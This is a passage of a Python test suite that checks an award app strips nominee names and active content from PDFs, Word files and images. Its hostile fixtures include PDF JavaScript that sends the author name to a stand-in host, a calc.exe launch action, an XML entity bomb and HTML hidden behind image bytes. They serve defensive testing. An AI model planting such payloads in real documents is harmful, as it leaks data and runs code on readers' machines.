"""S3/S7: the copies jurors of a blind round receive keep no name anywhere a PDF or Word document can hide
one; active PDF content never survives; every decoder is bounded."""

import io
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image, ImageChops

from award_app.nominations import cleaning, files
from award_app.storage import LocalStorage
from tests.nominations.factories import WORD
from tests.sample_files import PDF, jpeg_with_artist, png_header_only

NAMES = ("Mai Anh", "Nguyễn Thị", "Nguyen Thi", "Thành đoàn", "Trần Văn Bảo", "Bao Tran", "MaiAnh", "Lê Thị Cúc")
VISIBLE = "Evidence of the river clean-up"
STAMPED = "Received 12 March"  # drawn by an annotation: a printout shows it


def names_in(text: str) -> list[str]:
    return [name for name in NAMES if name.lower() in text.lower()]


# -- PDF ----------------------------------------------------------------------------------------

def _metadata_stream(pdf: pikepdf.Pdf, who: str) -> pikepdf.Stream:
    xmp = (f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           f'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{who}</dc:creator>'
           f'</rdf:Description></rdf:RDF></x:xmpmeta>').encode()
    return pdf.make_stream(xmp, Type=pikepdf.Name.Metadata, Subtype=pikepdf.Name.XML)


def _javascript(code: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def hostile_pdf() -> bytes:
    """A one-page PDF hiding the nominee's name in every place we know of, and running scripts."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 300))
    page = pdf.pages[0]
    font = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                                                BaseFont=pikepdf.Name.Helvetica))
    page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 20 150 Td ({VISIBLE}) Tj ET".encode())
    pdf.docinfo["/Author"] = "Nguyễn Thị Mai Anh"
    pdf.docinfo["/Title"] = "CV Nguyen Thi Mai Anh"
    pdf.Root.Metadata = _metadata_stream(pdf, "Nguyễn Thị Mai Anh")
    page.obj.Metadata = _metadata_stream(pdf, "Mai Anh (page)")
    page.obj.PieceInfo = pikepdf.Dictionary(Illustrator=pikepdf.Dictionary(Private=pikepdf.String("MaiAnh")))
    popup = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Popup,
                                                 Rect=[0, 0, 10, 10], Contents=pikepdf.String("Mai Anh")))
    note = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[10, 10, 30, 30], T=pikepdf.String("Trần Văn Bảo"),
        Contents=pikepdf.String("Sửa giúp Mai Anh"), RC=pikepdf.String("<p>Mai Anh</p>"), Popup=popup, F=4))
    field = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, Rect=[20, 200, 200, 220],
        T=pikepdf.String("Nguyen Thi Mai Anh"), V=pikepdf.String("Thành đoàn Hà Nội"), F=4,
        AA=pikepdf.Dictionary(K=_javascript("app.alert('Mai Anh')"))))
    attachment_file = pdf.make_stream(b"Nguyen Thi Mai Anh, personal data", Type=pikepdf.Name.EmbeddedFile)
    filespec = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("MaiAnh.txt"),
                                                    EF=pikepdf.Dictionary(F=attachment_file)))
    clip = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
                                                Rect=[40, 40, 60, 60], FS=filespec, T=pikepdf.String("Mai Anh")))
    link = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                                Rect=[0, 0, 5, 5], A=pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                                                                        F=pikepdf.String("calc.exe"))))
    stamp_look = pdf.make_stream(f"BT /F1 9 Tf 2 2 Td ({STAMPED}) Tj ET".encode(), Type=pikepdf.Name.XObject,
                                 Subtype=pikepdf.Name.Form, BBox=[0, 0, 200, 20],
                                 Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)))
    stamp = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Stamp, Rect=[20, 250, 220, 270], F=4,
        T=pikepdf.String("Lê Thị Cúc"), AP=pikepdf.Dictionary(N=stamp_look)))
    page.obj.Annots = pdf.make_indirect([note, popup, field, clip, link, stamp])
    photo = pdf.make_stream(jpeg_with_artist("Nguyen Thi Mai Anh"), Type=pikepdf.Name.XObject,
                            Subtype=pikepdf.Name.Image, Width=16, Height=16, ColorSpace=pikepdf.Name.DeviceRGB,
                            BitsPerComponent=8, Filter=pikepdf.Name.DCTDecode)
    page.obj.Resources.XObject = pikepdf.Dictionary(Im1=photo)
    page.obj.AA = pikepdf.Dictionary(O=_javascript("app.alert(1)"))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
    pdf.Root.OpenAction = _javascript("app.launchURL('http://x.example/?'+this.info.Author)")
    pdf.Root.Names = pikepdf.Dictionary(
        EmbeddedFiles=pikepdf.Dictionary(Names=[pikepdf.String("MaiAnh.txt"), filespec]),
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), pdf.make_indirect(_javascript("1"))]))
    outline = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("CV Nguyễn Thị Mai Anh"),
                                                   Dest=[page.obj, pikepdf.Name.Fit]))
    pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=outline, Last=outline,
                                                             Count=1))
    outline.Parent = pdf.Root.Outlines
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def everything_in(pdf_bytes: bytes) -> str:
    """The whole file with every stream decompressed, as text: where a name would show if it survived."""
    with pikepdf.open(io.BytesIO(pdf_bytes)) as pdf:
        out = io.BytesIO()
        # Every stream decompressed but JPEG images, kept as they are (their EXIF is where a name would be).
        pdf.save(out, qdf=True, stream_decode_level=pikepdf.StreamDecodeLevel.generalized, compress_streams=False)
        words = [out.getvalue().decode("latin-1")]
        for obj in pdf.objects:  # strings in UTF-16 or PDFDocEncoding, as a reader would show them
            if isinstance(obj, pikepdf.Dictionary):
                words += [str(v) for v in obj.values() if isinstance(v, pikepdf.String)]
        return " ".join(words)


def test_the_hostile_pdf_really_hides_the_names():
    assert len(names_in(everything_in(hostile_pdf()))) >= 5  # the test below would prove nothing otherwise


def whole_pdf(pdf_bytes: bytes) -> str:
    """Everything a reader of the file could get at: its bytes, every stream decompressed, every string, name
    and key, and the text and metadata PDFium extracts."""
    import pypdfium2

    words = [pdf_bytes.decode("latin-1"), everything_in(pdf_bytes), every_string_in(pdf_bytes)]
    document = pypdfium2.PdfDocument(pdf_bytes)
    try:
        words += [str(value) for value in document.get_metadata_dict().values()]
        for page in document:
            words.append(page.get_textpage().get_text_range())
    finally:
        document.close()
    return " ".join(words)


def rendered(pdf_bytes: bytes, index: int = 0) -> Image.Image:
    """A page as PDFium shows it at 72 dpi, annotations as a printout shows them."""
    import pypdfium2

    document = pypdfium2.PdfDocument(pdf_bytes)
    try:
        return document[index].render(scale=1, may_draw_forms=False, optimize_mode="print").to_pil().convert("L")
    finally:
        document.close()


def looks_alike(first: Image.Image, second: Image.Image) -> bool:
    """The same drawing, but for the blur of a picture made at another resolution and saved as JPEG."""
    if first.size != second.size:
        return False
    difference = ImageChops.difference(first, second).histogram()
    return sum(count for level, count in enumerate(difference) if level > 96) < first.width * first.height // 200


def test_a_blind_pdf_copy_keeps_no_name_anywhere_and_the_page_as_it_looks():
    original = hostile_pdf()
    clean = cleaning.pdf_as_page_images(io.BytesIO(original))
    everything = whole_pdf(clean)
    assert names_in(everything) == []
    for active in ("/JavaScript", "/JS", "/OpenAction", "/AA", "/EmbeddedFile", "/Launch", "/FileAttachment",
                   "/Annots", "/Font"):
        assert active not in everything, active
    assert looks_alike(rendered(clean), rendered(original))  # the text and the printed stamp are on the page
    assert not looks_alike(rendered(clean), rendered(PDF))  # … which is not a blank one
    with pikepdf.open(io.BytesIO(clean)) as pdf:
        assert len(pdf.pages) == 1 and "/Info" not in pdf.trailer and "/Metadata" not in pdf.Root
        assert list(pdf.pages[0].MediaBox) == [0, 0, 300, 300]
        assert list(pdf.pages[0].Resources.XObject.keys()) == ["/P"]  # a single picture, 150 dpi
        assert pikepdf.PdfImage(pdf.pages[0].Resources.XObject.P).width == 625


def test_active_content_is_taken_out_of_every_pdf_and_a_plain_one_is_kept_as_sent():
    neutral = cleaning.pdf_without_active_content(io.BytesIO(hostile_pdf()))
    everything = everything_in(neutral)
    for active in ("/JavaScript", "/JS", "/OpenAction", "/AA", "/EmbeddedFile", "/Launch", "/FileAttachment"):
        assert active not in everything, active
    assert VISIBLE in everything and "Trần Văn Bảo" in everything  # not a blind copy: the note stays
    assert cleaning.pdf_without_active_content(io.BytesIO(PDF)) is None


def test_an_unreadable_pdf_cannot_be_cleaned():
    with pytest.raises(cleaning.CannotClean):
        cleaning.without_identity(io.BytesIO(b"%PDF-1.7\n" + b"\x00" * 200), "pdf")


# -- Word ---------------------------------------------------------------------------------------

CORE = ('<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator xml:lang="vi-VN">Nguyễn Thị Mai Anh</dc:creator>'
        '<cp:lastModifiedBy a="1">Trần Văn Bảo</cp:lastModifiedBy><dc:title>CV Mai Anh</dc:title>'
        '</cp:coreProperties>')
APP = ('<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
       '<Company>Thành đoàn Hà Nội</Company><Manager>Trần Văn Bảo</Manager><Template>Normal.dotm</Template>'
       '</Properties>')
CUSTOM = ('<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties">'
          '<property name="Nominee"><vt:lpwstr xmlns:vt="x">Nguyen Thi Mai Anh</vt:lpwstr></property></Properties>')
DOCUMENT = (f'<w:document xmlns:w="{WORD}"><w:body>'
            '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>Báo cáo tự đánh giá</w:t></w:r>'
            '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>'
            '<w:p><w:ins w:id="1" w:author="Trần Văn Bảo" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Đã thêm</w:t></w:r>'
            '</w:ins><w:del w:id="2" w:author="Nguyễn Thị Mai Anh"><w:r><w:delText>Mai Anh</w:delText></w:r></w:del>'
            '<w:r><w:rPr><w:b/><w:rPrChange w:id="3" w:author="Bao Tran" w:initials="MaiAnh"><w:rPr/></w:rPrChange>'
            '</w:rPr><w:t>Giữ lại</w:t></w:r></w:p><w:tbl><w:tr><w:tc><w:tcPr><w:cellIns w:id="4" '
            'w:author="Lê Thị Cúc"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
            '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="'
            'http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:embed="rId3"/></w:drawing></w:r>'
            '</w:p></w:body></w:document>')
COMMENTS = (f'<w:comments xmlns:w="{WORD}"><w:comment w:id="0" w:author="Trần Văn Bảo" w:initials="TVB">'
            '<w:p><w:r><w:t>Mai Anh ơi, sửa chỗ này</w:t></w:r></w:p></w:comment></w:comments>')
PEOPLE = ('<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person '
          'w15:author="Nguyễn Thị Mai Anh"/></w15:people>')
SETTINGS = (f'<w:settings xmlns:w="{WORD}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><w:attachedTemplate r:id="rId1"/><w:docVars><w:docVar w:name="who" w:val="Mai Anh"/>'
            '</w:docVars></w:settings>')
SETTINGS_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                 'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
                 ' Target="file:///C:/Users/MaiAnh/Templates/CV.dotx" TargetMode="External"/></Relationships>')
DOCUMENT_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 'comments" Target="comments.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
                 'officeDocument/2006/relationships/settings" Target="settings.xml"/><Relationship Id="rId3" Type='
                 '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/a.jpg"/>'
                 '</Relationships>')
CONTENT_TYPES = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
                 'officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/comments.xml" '
                 'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>'
                 '<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-'
                 'officedocument.custom-properties+xml"/></Types>')


def hostile_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": DOCUMENT,
                           "word/_rels/document.xml.rels": DOCUMENT_RELS, "word/comments.xml": COMMENTS,
                           "word/commentsExtended.xml": COMMENTS.replace("w:comments", "w:commentsEx"),
                           "word/people.xml": PEOPLE, "word/settings.xml": SETTINGS,
                           "word/_rels/settings.xml.rels": SETTINGS_RELS, "docProps/core.xml": CORE,
                           "docProps/app.xml": APP, "docProps/custom.xml": CUSTOM,
                           "customXml/item1.xml": "<nominee>Nguyen Thi Mai Anh</nominee>"}.items():
            archive.writestr(name, body)
        archive.writestr("word/media/a.jpg", jpeg_with_artist("Nguyen Thi Mai Anh"))
    return out.getvalue()


def _unpacked(docx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_the_hostile_docx_really_hides_the_names():
    text = " ".join(body.decode("utf-8", "replace") for body in _unpacked(hostile_docx()).values())
    assert len(names_in(text)) >= 5


def test_a_blind_word_copy_keeps_no_name_in_any_part_or_attribute():
    parts = _unpacked(cleaning.without_identity(io.BytesIO(hostile_docx()), "docx"))
    text = " ".join(body.decode("utf-8", "replace") for body in parts.values())
    assert names_in(text) == []
    assert "author" not in text and "file:///" not in text
    document = parts["word/document.xml"].decode()
    assert "Báo cáo tự đánh giá" in document and "Đã thêm" in document and "Giữ lại" in document  # changes accepted
    assert "comments.xml" not in parts["word/_rels/document.xml.rels"].decode()  # no link to a removed part
    assert "/word/comments.xml" not in parts["[Content_Types].xml"].decode()
    assert not any(name.startswith(("customXml/", "word/comments", "word/people")) or name == "docProps/custom.xml"
                   for name in parts)
    with Image.open(io.BytesIO(parts["word/media/image1.jpeg"])) as photo:  # still a picture, without its EXIF
        assert photo.size == (16, 16) and not photo.getexif()


def test_word_parts_are_parsed_without_entities():
    bomb = ('<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "Mai Anh"><!ENTITY b "&a;&a;&a;&a;">]>'
            f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>')
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", bomb)
    try:
        parts = _unpacked(cleaning.without_identity(io.BytesIO(docx.getvalue()), "docx"))
    except cleaning.CannotClean:
        return  # refused: fine as well
    assert "Mai Anh" not in parts["word/document.xml"].decode()


def test_a_word_document_too_large_once_unpacked_is_not_read():
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", f'<w:document xmlns:w="{WORD}">' + " " * 5000 + "</w:document>")
    with pytest.raises(cleaning.DocxTooLarge):
        cleaning.docx_without_identity(io.BytesIO(many.getvalue()), cleaning.DocxLimits(max_xml_part=4000))
    with pytest.raises(cleaning.DocxTooLarge):
        cleaning.docx_without_identity(io.BytesIO(many.getvalue()), cleaning.DocxLimits(max_parts=1))
    with pytest.raises(cleaning.DocxTooLarge):
        cleaning.docx_without_identity(io.BytesIO(many.getvalue()), cleaning.DocxLimits(max_unpacked=1000))


def test_an_upload_with_too_many_parts_is_refused(tmp_path):
    crowded = io.BytesIO()
    with zipfile.ZipFile(crowded, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", DOCUMENT)
        for n in range(cleaning.DocxLimits().max_parts):
            archive.writestr(f"word/media/{n}.bin", b"")
    with pytest.raises(files.UploadRefused) as refused:
        files.store(io.BytesIO(crowded.getvalue()), LocalStorage(tmp_path), max_bytes=10_000_000, allowed={"docx"})
    assert refused.value.reason == "unpacks_too_large"


# -- images -------------------------------------------------------------------------------------

def test_an_image_over_the_pixel_bound_is_refused_before_it_is_decoded(tmp_path):
    bomb = png_header_only(8000, 8000)  # 64 megapixels: over our bound, under Pillow's own
    with pytest.raises(files.UploadRefused) as refused:
        files.store(io.BytesIO(bomb), LocalStorage(tmp_path), max_bytes=1_000_000, allowed={"png"})
    assert refused.value.reason == "too_many_pixels"
    with pytest.raises(cleaning.TooManyPixels):
        cleaning.without_identity(io.BytesIO(bomb), "png")


def test_html_behind_image_magic_bytes_is_not_a_photo(tmp_path):
    fake = b"\xff\xd8\xff" + b"<html><script>alert(1)</script></html>\n"
    assert len(fake) == 42
    with pytest.raises(files.UploadRefused) as refused:
        files.store(io.BytesIO(fake), LocalStorage(tmp_path), max_bytes=1_000_000, allowed={"jpeg"})
    assert refused.value.reason == "unknown_type"


def test_a_truncated_image_is_refused(tmp_path):
    whole = jpeg_with_artist("x")
    with pytest.raises(files.UploadRefused):
        files.store(io.BytesIO(whole[: len(whole) // 2]), LocalStorage(tmp_path), max_bytes=1_000_000,
                    allowed={"jpeg"})


def test_a_blind_image_copy_keeps_the_pixels_and_nothing_else():
    clean = cleaning.without_identity(io.BytesIO(jpeg_with_artist("Nguyen Thi Mai Anh")), "jpeg")
    assert b"Mai Anh" not in clean
    with Image.open(io.BytesIO(clean)) as image:
        assert image.size == (16, 16) and not image.getexif() and "comment" not in image.info


def test_a_blind_copy_is_made_once_and_kept_as_a_file(tmp_path, monkeypatch):
    storage = LocalStorage(tmp_path)
    sha, _size, kind = files.store(io.BytesIO(hostile_pdf()), storage, max_bytes=1_000_000, allowed={"pdf"})
    key = files.blind_copy(storage, sha, kind)
    assert storage.exists(key) and key.startswith(f"blind/v{cleaning.VERSION}/")
    monkeypatch.setattr(cleaning, "without_identity", lambda *_: pytest.fail("cleaned a second time"))
    assert files.blind_copy(storage, sha, kind) == key


# -- every string outside the page content (attack of issue 15) -----------------------------------

def _file_spec(pdf: pikepdf.Pdf, name: str) -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String(name),
                                                UF=pikepdf.String(name), Desc=pikepdf.String(name)))


def _add_layers(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    layer = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.OCG, Name=pikepdf.String("Nguyen Thi Mai Anh"),
        Usage=pikepdf.Dictionary(CreatorInfo=pikepdf.Dictionary(Creator=pikepdf.String("Trần Văn Bảo")))))
    pdf.Root.OCProperties = pikepdf.Dictionary(
        OCGs=[layer], D=pikepdf.Dictionary(Name=pikepdf.String("Bao Tran"), Creator=pikepdf.String("Bao Tran"),
                                           Order=[pikepdf.String("Lê Thị Cúc"), layer], OFF=[layer]),
        Configs=[pikepdf.Dictionary(Name=pikepdf.String("Thành đoàn"))])
    return layer


def pdf_with_strings_everywhere() -> bytes:
    """Names in the places the attack found: associated files, named destinations, page labels, layers, the
    file ID, a collection, a URI base, a form's legacy name, and in a string under a key nobody knows."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 300))
    page = pdf.pages[0]
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    layer = _add_layers(pdf)
    form = pdf.make_stream(b"0 0 m", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 10, 10],
                           Name=pikepdf.Name("/MaiAnh"), AF=[_file_spec(pdf, "Mai Anh form.txt")], OC=layer)
    page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font), XObject=pikepdf.Dictionary(Fm0=form))
    page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 20 150 Td ({VISIBLE}) Tj ET /Fm0 Do".encode())
    page.obj.AF = [_file_spec(pdf, "Bao Tran page.txt")]
    page.obj.Private = pikepdf.Dictionary(Note=[pikepdf.String("Nguyễn Thị"), [pikepdf.String("MaiAnh")]])
    pdf.Root.AF = [_file_spec(pdf, "Nguyen Thi Mai Anh.txt")]
    pdf.Root.Names = pikepdf.Dictionary(Dests=pikepdf.Dictionary(
        Names=pdf.make_indirect([pikepdf.String("CV Mai Anh"), [page.obj, pikepdf.Name.Fit]])))
    pdf.Root.Dests = pikepdf.Dictionary(TranVanBao=[page.obj, pikepdf.Name.Fit])
    pdf.Root.Dests[pikepdf.Name("/Bao")] = pikepdf.Dictionary(D=[page.obj, pikepdf.Name.Fit],
                                                              Note=pikepdf.String("Bao Tran"))
    pdf.Root.PageLabels = pikepdf.Dictionary(Nums=[0, pikepdf.Dictionary(P=pikepdf.String("Mai Anh-"))])
    pdf.Root.Collection = pikepdf.Dictionary(D=pikepdf.String("Lê Thị Cúc"))
    pdf.Root.URI = pikepdf.Dictionary(Base=pikepdf.String("https://maianh.example/"))
    pdf.trailer.ID = [pikepdf.String(b"Nguyen Thi Mai Anh"), pikepdf.String(b"Nguyen Thi Mai Anh")]
    out = io.BytesIO()
    pdf.save(out, static_id=False)
    return out.getvalue()


def _stream_data(stream: pikepdf.Stream) -> bytes:
    """Decompressed as far as it goes (Flate, LZW …, not JPEG): a JPEG's metadata shows as its bytes, also
    behind a chain of filters that ends with the JPEG's (which qpdf does not undo part-way)."""
    try:
        return stream.read_bytes(decode_level=pikepdf.StreamDecodeLevel.generalized)
    except pikepdf.PdfError:
        data = stream.read_raw_bytes()
    filters = stream.get("/Filter")
    for name in filters if isinstance(filters, pikepdf.Array) else [filters]:
        if name in (pikepdf.Name.FlateDecode, pikepdf.Name.Fl):
            data = zlib.decompress(data)
        elif name in (pikepdf.Name.ASCIIHexDecode, pikepdf.Name.AHx):
            data = bytes.fromhex(data.split(b">")[0].decode("latin-1"))
        else:
            break
    return data


def every_string_in(pdf_bytes: bytes) -> str:
    """Every string value reachable in the file, however deep in dictionaries and arrays, the trailer's ID
    included, and every stream's data decompressed: where a name would be, compressed or not."""
    words: list[str] = []
    with pikepdf.open(io.BytesIO(pdf_bytes)) as pdf:
        stack: list = [pdf.trailer, *pdf.objects]
        seen: set = set()
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.String):
                words += [str(obj), bytes(obj).decode("latin-1")]
            elif isinstance(obj, pikepdf.Name):
                words.append(str(obj))
            elif isinstance(obj, pikepdf.Dictionary | pikepdf.Stream | pikepdf.Array):
                if obj.is_indirect and obj.objgen in seen:
                    continue
                if obj.is_indirect:
                    seen.add(obj.objgen)
                if isinstance(obj, pikepdf.Stream):
                    words.append(_stream_data(obj).decode("latin-1"))
                stack.extend(obj.values() if not isinstance(obj, pikepdf.Array) else obj)
                stack.extend(pikepdf.Name(key) for key in (obj.keys() if not isinstance(obj, pikepdf.Array) else []))
    return " ".join(words)


def test_the_pdf_with_strings_everywhere_really_hides_the_names():
    assert len(names_in(every_string_in(pdf_with_strings_everywhere()))) >= 6


def test_a_blind_pdf_copy_keeps_no_string_outside_the_page_content():
    original = pdf_with_strings_everywhere()
    clean = cleaning.pdf_as_page_images(io.BytesIO(original))
    everything = whole_pdf(clean)
    assert names_in(everything) == [], names_in(everything)
    assert "maianh.example" not in everything
    assert looks_alike(rendered(clean), rendered(original))  # the page as it looks, the hidden layer hidden
    with pikepdf.open(io.BytesIO(clean)) as pdf:
        assert set(pdf.Root.keys()) == {"/Type", "/Pages"}
        assert pdf.trailer.ID[0] == pdf.trailer.ID[1] != pikepdf.String(b"Nguyen Thi Mai Anh")


PACKAGE_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
                'Target="word/document.xml"/></Relationships>')
TAGGED_DOCUMENT = (f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Báo cáo tự đánh giá</w:t></w:r></w:p>'
                   '<w:sdt><w:sdtPr><w:alias w:val="Nguyen Thi Mai Anh"/><w:tag w:val="Trần Văn Bảo"/>'
                   '<w:placeholder><w:docPart w:val="MaiAnh"/></w:placeholder></w:sdtPr><w:sdtContent><w:p><w:r>'
                   '<w:t>Trong ô</w:t></w:r></w:p></w:sdtContent></w:sdt>'
                   '<w:customXml w:element="Bao Tran"><w:customXmlPr><w:attr w:name="who" w:val="Lê Thị Cúc"/>'
                   '</w:customXmlPr><w:p><w:r><w:t>Bọc ngoài</w:t></w:r></w:p></w:customXml>'
                   '<w:p><w:smartTag w:element="Thành đoàn"><w:smartTagPr><w:attr w:name="x" w:val="Nguyễn Thị"/>'
                   '</w:smartTagPr><w:r><w:t>Thẻ</w:t></w:r></w:smartTag></w:p></w:body></w:document>')
BLOB_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
             'Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
             'Target="blob.bin"/></Relationships>')


def docx_with_orphans_and_tags() -> bytes:
    """Parts nothing references (kept byte for byte by the old cleaner), a referenced blob outside the
    pictures, and names in content-control, custom-XML and smart-tag properties."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": PACKAGE_RELS,
                           "word/document.xml": TAGGED_DOCUMENT, "word/_rels/document.xml.rels": BLOB_RELS,
                           "word/blob.bin": "Nguyen Thi Mai Anh", "word/MaiAnh.bin": "Nguyen Thi Mai Anh",
                           "word/orphan.xml": "<x>Trần Văn Bảo</x>", "word/media/orphan.jpg": "Bao Tran",
                           "other/_rels/orphan.xml.rels": "<Relationships>Lê Thị Cúc</Relationships>"}.items():
            archive.writestr(name, body)
    return out.getvalue()


def test_the_docx_with_orphans_and_tags_really_hides_the_names():
    text = " ".join(body.decode("utf-8", "replace") for body in _unpacked(docx_with_orphans_and_tags()).values())
    assert len(names_in(text)) >= 6


def test_a_blind_word_copy_keeps_only_referenced_parts_and_no_tag_names():
    parts = _unpacked(cleaning.without_identity(io.BytesIO(docx_with_orphans_and_tags()), "docx"))
    assert sorted(parts) == ["[Content_Types].xml", "_rels/.rels", "word/document.xml"]
    text = " ".join(body.decode("utf-8", "replace") for body in parts.values())
    assert names_in(text) == [], names_in(text)
    document = parts["word/document.xml"].decode()
    for kept in ("Báo cáo tự đánh giá", "Trong ô", "Bọc ngoài", "Thẻ"):  # the text inside the wrappers stays
        assert kept in document, kept
    assert "customXml" not in document and "smartTag" not in document


def _relationship(kind: str, target: str) -> str:
    return (f'<Relationship Id="{_id(target)}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/{kind}" Target="{target}"/>')


def _id(target: str) -> str:
    return "r" + "".join(ch for ch in target if ch.isalnum())


def test_a_blind_word_copy_keeps_every_part_the_document_reaches_through_an_allowed_relationship():
    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    png = io.BytesIO()
    Image.new("RGB", (4, 4)).save(png, "PNG")
    word = f'xmlns:w="{WORD}"'
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": rels.format(
                 _relationship("officeDocument", "word/document.xml") + _relationship("extended-properties",
                                                                                      "/docProps/app.xml")),
             "word/document.xml": TAGGED_DOCUMENT.replace("</w:body>", (
                 f'<w:p><w:r><w:drawing><a:blip xmlns:a="{cleaning.A}" xmlns:r="{cleaning.R}" r:embed="'
                 f'{_id("media/image%201.png")}"/></w:drawing></w:r></w:p><w:sectPr xmlns:r="{cleaning.R}">'
                 f'<w:headerReference w:type="default" r:id="{_id("header7.xml")}"/>'
                 f'<w:footerReference w:type="default" r:id="{_id("f.xml")}"/></w:sectPr></w:body>')),
             "docProps/app.xml": APP,
             "word/_rels/document.xml.rels": rels.format(
                 _relationship("styles", "styles.xml") + _relationship("image", "media/image%201.png")
                 + _relationship("fontTable", "fontTable.xml") + _relationship("glossaryDocument",
                                                                               "glossary/document.xml")
                 + _relationship("header", "header7.xml") + _relationship("footer", "f.xml")
                 + _relationship("theme", "theme/theme1.xml")),
             "word/styles.xml": f"<w:styles {word}/>", "word/fontTable.xml": f"<w:fonts {word}/>",
             "word/header7.xml": f"<w:hdr {word}/>", "word/f.xml": f"<w:ftr {word}/>",
